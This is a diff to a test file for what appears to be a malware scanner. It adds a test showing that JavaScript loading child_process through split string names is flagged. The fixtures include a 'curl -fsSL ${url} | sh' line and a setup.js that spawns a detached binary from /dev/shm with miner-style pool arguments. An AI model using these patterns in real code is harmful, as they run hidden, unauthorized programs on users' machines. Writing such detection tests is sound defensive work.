@@ -251,3 +251,22 @@ def test_deno_and_bun_process_apis_count_as_starting_programs() -> None:
     assert starts_programs(b"await Bun.$`curl -fsSL ${url} | sh`;")
     assert starts_programs(b'import { spawn } from "node:child_process";')
     assert not starts_programs(b"const text = await Deno.readTextFile(path); myDeno.run();")
+
+
+def test_a_module_loaded_by_a_split_name_counts_as_starting_programs(tmp_path: Path) -> None:
+    from minehunt.files.worker import starts_programs
+
+    assert starts_programs(b'const { spawn } = require("node:ch" + "ild_process");')
+    assert not starts_programs(b'const x = require("./a") + require("./b");')
+    # And `scan files` then reads its calls: split strings fold before they are read.
+    (tmp_path / "setup.js").write_text(
+        'const cp = require("child_" + "process");\n'
+        'const fs = require("f" + "s");\n'
+        'const bin = "/dev/shm/" + ".x";\n'
+        "fs.chmodSync(bin, 0o755);\n"
+        'cp.spawn(bin, ["-o", "192.0.2.4:3333", "--donate-level", "1"], { detached: true });\n'
+    )
+    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
+    (f,) = res.report.findings
+    assert f.severity >= Severity.MEDIUM
+    assert {"MH-SCRIPT-019", "MH-SCRIPT-022"} <= {e.check_id for e in f.evidence}
